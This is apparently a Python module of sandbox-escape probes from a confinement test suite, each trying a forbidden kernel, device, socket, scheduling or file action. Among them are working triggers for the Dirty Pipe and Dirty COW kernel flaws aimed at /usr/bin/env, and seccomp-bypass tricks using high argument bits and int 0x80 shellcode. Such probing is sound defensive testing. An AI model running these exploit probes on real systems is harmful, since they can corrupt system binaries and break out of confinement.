"""What is the machine's own: devices, memory, scheduling, settings, and other ways to call it."""

import ctypes
import errno
import fcntl
import mmap
import os
import platform
import resource
import socket
import stat
import struct
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

Context = dict[str, str]
Probe = Callable[[Context], "str | None"]
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
X86 = platform.machine() == "x86_64"
USUAL = {"full", "null", "ptmx", "random", "tty", "urandom", "zero", "console"}
"""Devices that a command has."""
FAMILIES = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}


def failed(result: int) -> None:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def files(top: str, without: set[str]) -> Iterator[Path]:
    """Yields the files and folders beneath, of one file system or several, without those named."""
    for folder, folders, names in os.walk(top, onerror=lambda _: None):
        folders[:] = [name for name in folders if f"{folder.rstrip('/')}/{name}" not in without]
        yield from (Path(folder, name) for name in (*folders, *names))


def writable_setting(context: Context) -> str | None:
    """Opens each file of /proc that belongs to no process for writing; nothing is written."""
    del context
    own = {f"/proc/{name}" for name in os.listdir("/proc") if name.isdigit()}
    for path in files("/proc", own | {"/proc/self", "/proc/thread-self"}):
        if not stat.S_ISREG(path.lstat().st_mode):
            continue
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
        except OSError:
            continue
        return str(path)
    return None


def writable_elsewhere(context: Context) -> str | None:
    """Looks for a folder or file that can be written outside of the workspace and /tmp."""
    free = {"/tmp", "/dev", "/proc", context["workspace"]}
    for path in files("/", free):
        if not path.is_symlink() and os.access(path, os.W_OK, effective_ids=True):
            return str(path)
    return None


def unusual_device(context: Context) -> str | None:
    del context
    for path in files("/dev", {"/dev/pts", "/dev/shm"}):
        mode = path.lstat().st_mode
        if (stat.S_ISBLK(mode) or stat.S_ISCHR(mode)) and path.name not in USUAL:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return str(path)
    return None


def device_elsewhere(context: Context) -> str | None:
    """Looks for a device that can be opened, outside of /dev."""
    for path in files("/", {"/dev", "/proc", "/usr", context["workspace"]}):
        mode = path.lstat().st_mode
        if stat.S_ISBLK(mode) or stat.S_ISCHR(mode):
            try:
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            except OSError:
                continue
            return str(path)
    return None


def families(context: Context) -> str | None:
    """Makes a socket of each family but the four that are allowed."""
    del context
    for family in range(64):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            number = LIBC.socket(family, kind, 0)
            if number >= 0:
                os.close(number)
                if family not in FAMILIES:
                    return f"{family} {kind}"
    return None


def families_high(context: Context) -> str | None:
    """Makes sockets whose family has bits above its 32, which the kernel drops."""
    del context
    for family in set(range(64)) - {int(known) for known in FAMILIES}:
        high = ctypes.c_ulong(0x5A5A5A5A00000000 | family)
        number = LIBC.syscall(ctypes.c_long(41 if X86 else 198), high, socket.SOCK_STREAM, 0)
        if number >= 0:
            os.close(number)
            return f"{family}"
    return None


def pairs(context: Context) -> str | None:
    """Makes pairs of sockets of each family but those of the file system."""
    del context
    ends = (ctypes.c_int * 2)()
    for family in set(range(64)) - {int(socket.AF_UNIX)}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            if LIBC.socketpair(family, kind, 0, ends) == 0:
                return f"{family} {kind}"
    return None


def netlink(protocol: int, context: Context) -> str | None:
    """Asks the kernel by a netlink protocol that could change or tell something."""
    del context
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as asked:
        asked.bind((0, 0))
        return str(asked.getsockname())


def listed_socket(name: str, context: Context) -> str | None:
    """Looks for the sockets of the machine in the tables of the kernel."""
    text = Path(f"/proc/self/net/{name}").read_text(encoding="utf-8", errors="replace")
    port = f":{int(context['port']):04X} "
    return text[:80] if port in text or context["socket"] in text else None


def diagnosed(context: Context) -> str | None:
    """Asks for all listening TCP sockets by sock_diag."""
    body = struct.pack("=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 0xFFFFFFFF) + bytes(48)
    head = struct.pack("=IHHII", 16 + len(body), 20, 0x301, 1, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as asked:
        asked.settimeout(5)
        asked.send(head + body)
        answer = asked.recv(65536)
    return "listed" if struct.pack("!H", int(context["port"])) in answer else None


def ioctl_high(request: int, context: Context) -> str | None:
    """Puts bits above the 32 of a request, which the kernel drops and a filter may not."""
    del context
    ours, theirs = os.openpty()
    argument = ctypes.create_string_buffer(b"x")
    high = ctypes.c_ulong(0x5A5A5A5A00000000 | request)
    result = LIBC.syscall(ctypes.c_long(16 if X86 else 29), theirs, high, argument)
    os.close(ours)
    number = ctypes.get_errno()
    return "reached" if result == 0 or number not in {errno.EPERM, errno.ENOSYS} else None


def by_old_call(context: Context) -> str | None:
    """Calls the kernel by `int 0x80`, the numbers of which a filter for 64 bits does not know."""
    del context
    if not X86:
        return None
    # mov eax, 20 (getpid); int 0x80; ret
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    found = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return str(found) if found == os.getpid() else None


def real_time(policy: int, context: Context) -> str | None:
    del context
    os.sched_setscheduler(0, policy, os.sched_param(1))
    return str(os.sched_getscheduler(0))


def hurried(context: Context) -> str | None:
    """Takes the class of real time for reads and writes."""
    del context
    failed(LIBC.syscall(ctypes.c_long(251 if X86 else 30), 1, 0, (1 << 13) | 4))
    return "real time"


def nicer(context: Context) -> str | None:
    del context
    os.setpriority(os.PRIO_PROCESS, 0, os.getpriority(os.PRIO_PROCESS, 0) - 1)
    return str(os.getpriority(os.PRIO_PROCESS, 0))


def locked_memory(context: Context) -> str | None:
    """Locks more memory than a user may."""
    del context
    size = 96 << 20
    area = LIBC.mmap(None, ctypes.c_size_t(size), 3, 0x22, -1, 0)
    failed(LIBC.mlock(ctypes.c_void_p(area), ctypes.c_size_t(size)))
    return "96 MiB"


def spared(context: Context) -> str | None:
    """Takes itself out of the choice of the kernel when memory ends."""
    del context
    Path("/proc/self/oom_score_adj").write_text("-500", encoding="ascii")
    return Path("/proc/self/oom_score_adj").read_text(encoding="ascii")


def poisoned(advice: int, context: Context) -> str | None:
    """Asks to take a page of the machine's memory out of use."""
    del context
    area = LIBC.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, 0)
    failed(LIBC.madvise(ctypes.c_void_p(area), ctypes.c_size_t(4096), advice))
    return str(advice)


def others_limit(context: Context) -> str | None:
    """Raises the limit of open files of the first process inside, and its own through it."""
    soft, hard = resource.prlimit(1, resource.RLIMIT_NOFILE)
    resource.prlimit(1, resource.RLIMIT_NOFILE, (soft, hard + 1))
    return context["files"]


def flagged(flag: int, context: Context) -> str | None:
    """Makes a file that its owner cannot remove any more."""
    path = Path(context["workspace"], f"flagged-{flag}")
    path.touch()
    with path.open("rb") as file:
        fcntl.ioctl(file, 0x40086602, struct.pack("l", flag))  # FS_IOC_SETFLAGS
    return str(path)


def attributed(name: str, context: Context) -> str | None:
    path = Path(context["workspace"], "attributed")
    path.touch()
    os.setxattr(path, name, b"\x01\x00\x00\x02" + bytes(16))
    return name


def leased(context: Context) -> str | None:
    """Holds back whoever opens a program of the machine for writing, such as an update."""
    del context
    with Path("/usr/bin/env").open("rb") as file:
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    return "/usr/bin/env"


def mapped(name: str, context: Context) -> str | None:
    """Writes the users of its namespace anew."""
    del context
    Path(f"/proc/self/{name}").write_text("0 0 1", encoding="ascii")
    return Path(f"/proc/self/{name}").read_text(encoding="ascii")


def spliced(context: Context) -> str | None:
    """Writes into a page of a read-only file that a pipe refers to (CVE-2022-0847)."""
    path = Path("/usr/bin/env")
    before = path.read_bytes()[:64]
    reading, writing = os.pipe()
    os.write(writing, b"x" * 65536)
    os.read(reading, 65536)
    with path.open("rb") as file:
        os.splice(file.fileno(), writing, 1, offset_src=4)
    os.write(writing, b"\x7f")
    os.set_blocking(reading, False)
    return context["token"] if path.read_bytes()[:64] != before else None


def written_through(context: Context) -> str | None:
    """Writes to a read-only file by the memory of its own process (CVE-2016-5195)."""
    path = Path("/usr/bin/env")
    before = path.read_bytes()[:64]
    with path.open("rb") as file, mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ) as area:
        row = next(
            line
            for line in Path("/proc/self/maps").read_text().splitlines()
            if "/usr/bin/env" in line
        )
        with Path("/proc/self/mem").open("r+b", buffering=0) as memory:
            memory.seek(int(row.partition("-")[0], 16) + 8)
            memory.write(b"z")
        del area
    return context["token"] if path.read_bytes()[:64] != before else None


def planted_socket(name: str, context: Context) -> str | None:
    """Connects to a program of the machine that listens in the workspace."""
    with socket.socket(socket.AF_UNIX) as asked:
        asked.connect(str(Path(context["workspace"], name)))
    return name


def second_name(context: Context) -> str | None:
    """Changes a closed file by another name that it has in the workspace."""
    with Path(context["workspace"], "folder", "another-name").open("ab") as file:
        file.write(b"word")
    return "folder/another-name"


PROBES: dict[str, Probe] = {
    "setting-any": writable_setting,
    "system-writable-elsewhere": writable_elsewhere,
    "tells-any-device": unusual_device,
    "tells-device-elsewhere": device_elsewhere,
    "families": families,
    "families-high": families_high,
    "family-pairs": pairs,
    "netlink-diagnosis": diagnosed,
    "call-by-int-80": by_old_call,
    "machine-hurried": hurried,
    "machine-nicer": nicer,
    "machine-locked-memory": locked_memory,
    "machine-spared": spared,
    "machine-limit-of-first": others_limit,
    "machine-lease": leased,
    "machine-spliced": spliced,
    "machine-written-through": written_through,
    "closed-other-name": second_name,
}
for _label, _protocol in {
    "xfrm": 6,
    "selinux": 7,
    "connector": 11,
    "crypto": 21,
    "smc": 22,
}.items():
    PROBES[f"netlink-{_label}"] = partial(netlink, _protocol)
for _name in ("tcp", "udp", "unix", "tcp6"):
    PROBES[f"listed-{_name}"] = partial(listed_socket, _name)
for _label, _request in {"input": 0x5412, "linux": 0x541C, "discipline": 0x5423}.items():
    PROBES[f"terminal-high-{_label}"] = partial(ioctl_high, _request)
for _label, _policy in {"fifo": os.SCHED_FIFO, "round": os.SCHED_RR}.items():
    PROBES[f"machine-{_label}"] = partial(real_time, _policy)
for _label, _advice in {"poison": 100, "offline": 101}.items():
    PROBES[f"machine-{_label}"] = partial(poisoned, _advice)
for _label, _flag in {"immutable": 0x10, "append": 0x20}.items():
    PROBES[f"machine-{_label}"] = partial(flagged, _flag)
for _name in ("security.capability", "trusted.word"):
    PROBES[f"attribute-{_name}"] = partial(attributed, _name)
for _name in ("uid_map", "gid_map", "setgroups"):
    PROBES[f"users-{_name}"] = partial(mapped, _name)
for _name in ("planted-socket", "folder/planted-socket"):
    PROBES[f"unix-{_name.replace('/', '-')}"] = partial(planted_socket, _name)
